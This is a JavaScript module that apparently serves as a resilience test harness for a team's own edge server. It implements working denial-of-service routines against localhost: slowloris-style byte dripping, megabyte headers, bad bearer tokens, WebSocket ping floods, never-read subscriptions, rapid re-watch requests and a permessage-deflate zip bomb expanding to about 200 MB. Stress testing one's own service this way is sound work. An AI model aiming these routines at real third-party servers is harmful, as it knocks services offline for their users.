// Ways to harm the edge, byte by byte: what one connection does, from when it is opened. `received` of
// its socket is what came last, `status` that of the answer (see attackers.mjs).

import { randomBytes } from 'node:crypto';
import { constants, deflateRawSync } from 'node:zlib';
import { frame, OPCODE, upgradeRequest } from './raw_frames.mjs';

const DRIP_MS = 250;
const PINGS_A_WRITE = 500;
const BOMB_BYTES = 200 << 20;
const HEADER_BYTES = 1 << 20;
const WATCH_MS = 9;
const DROP_MS = 30;

/** Calls `write` again and again, as fast as the edge takes it. */
function pump(socket, write) {
  const more = () => {
    while (socket.writable && write()) if (socket.writableNeedDrain) return;
  };
  socket.on('drain', more);
  more();
}

/** One byte at a time. */
function drip(socket, text) {
  let at = 0;
  const timer = setInterval(() => socket.write(text[at++ % text.length]), DRIP_MS);
  socket.on('close', () => clearInterval(timer));
}

/** Sends the upgrade, and calls `then` with the head of the answer once it is accepted. */
function upgrade(socket, headers, then = () => {}) {
  socket.write(upgradeRequest(headers));
  const look = () => {
    const head = socket.received.toString('latin1');
    if (!head.includes('\r\n\r\n')) return;
    socket.off('data', look);
    if (socket.status === '101') then(head);
  };
  socket.on('data', look);
}

const bearer = (token) => ({ authorization: `Bearer ${token}` });

let bomb;
function makeBomb() {
  bomb ??= deflateRawSync(Buffer.alloc(BOMB_BYTES), { finishFlush: constants.Z_SYNC_FLUSH }).subarray(0, -4);
  return bomb;
}

/** By name; each is given the socket and the options of its attackers, with its `number`. */
export const ATTACKS = {
  /** A request that never ends, in its first line, its headers or its body. */
  slowloris(socket, { number }) {
    const starts = ['', 'GET /v1/poll HTTP/1.1\r\nHost: localhost\r\n', 'POST /v1/token HTTP/1.1\r\nHost: localhost\r\nContent-Length: 8000\r\n\r\n'];
    socket.write(starts[number % 3]);
    drip(socket, ['GET /aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 'X-a: b\r\n', '{"username":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"'][number % 3]);
  },

  /** Says nothing. */
  silence() {},

  /** Becomes a socket and then says nothing. */
  noToken(socket) {
    upgrade(socket, {});
  },

  /** Leaves as soon as it has been let in. */
  connect(socket) {
    upgrade(socket, {}, () => socket.destroy());
  },

  /** Tokens that are none: `tokens` in turns, by HTTP and to a socket. */
  badToken(socket, { tokens, number }) {
    const token = tokens[number % tokens.length];
    if (number % 2 === 0) socket.write(`GET /v1/poll?wait=0 HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${token}\r\n\r\n`);
    else upgrade(socket, bearer(token));
  },

  /** One header of a megabyte, or as much in small ones. */
  hugeHeaders(socket, { number }) {
    socket.write('GET / HTTP/1.1\r\nHost: localhost\r\n');
    let left = HEADER_BYTES;
    const piece = (number % 2 === 0 ? 'x' : 'X-a: b\r\n').repeat(8 << 10);
    if (number % 2 === 0) socket.write('X-a: ');
    pump(socket, () => {
      if (left <= 0) return false;
      left -= piece.length;
      socket.write(piece);
      return true;
    });
  },

  /** Pings as fast as they are taken, reading no pong. */
  pingFlood(socket, { token }) {
    const pings = Buffer.concat(Array(PINGS_A_WRITE).fill(frame(OPCODE.ping, randomBytes(125))));
    upgrade(socket, bearer(token), () => {
      socket.pause();
      pump(socket, () => socket.write(pings) || true);
    });
  },

  /** Asks for the whole log and reads none of it. */
  neverRead(socket, { token }) {
    upgrade(socket, bearer(token), () => {
      socket.write(frame(OPCODE.text, Buffer.from('{"state":"watch","data":{"after":""}}')));
      socket.pause();
    });
  },

  /** Watches from the beginning again and again, about 110 times a second. */
  hastyWatch(socket, { token }) {
    const watch = frame(OPCODE.text, Buffer.from('{"state":"watch","data":{"after":""}}'));
    upgrade(socket, bearer(token), () => {
      const timer = setInterval(() => socket.write(watch), WATCH_MS);
      socket.on('close', () => clearInterval(timer));
    });
  },

  /** Polls for the beginning and does not wait for it. */
  droppedPoll(socket, { token }) {
    socket.write(`GET /v1/poll?after= HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${token}\r\n\r\n`);
    setTimeout(() => socket.destroy(), DROP_MS);
  },

  /** 200 kB that would be 200 MB. `onUpgraded` is told whether compression was agreed on. */
  zipBomb(socket, { token, onUpgraded = () => {} }) {
    upgrade(socket, { ...bearer(token), 'sec-websocket-extensions': 'permessage-deflate; client_no_context_takeover' }, (head) => {
      onUpgraded(/^sec-websocket-extensions:.*permessage-deflate/im.test(head));
      socket.write(frame(OPCODE.text, makeBomb(), { isCompressed: true }));
    });
  },
};
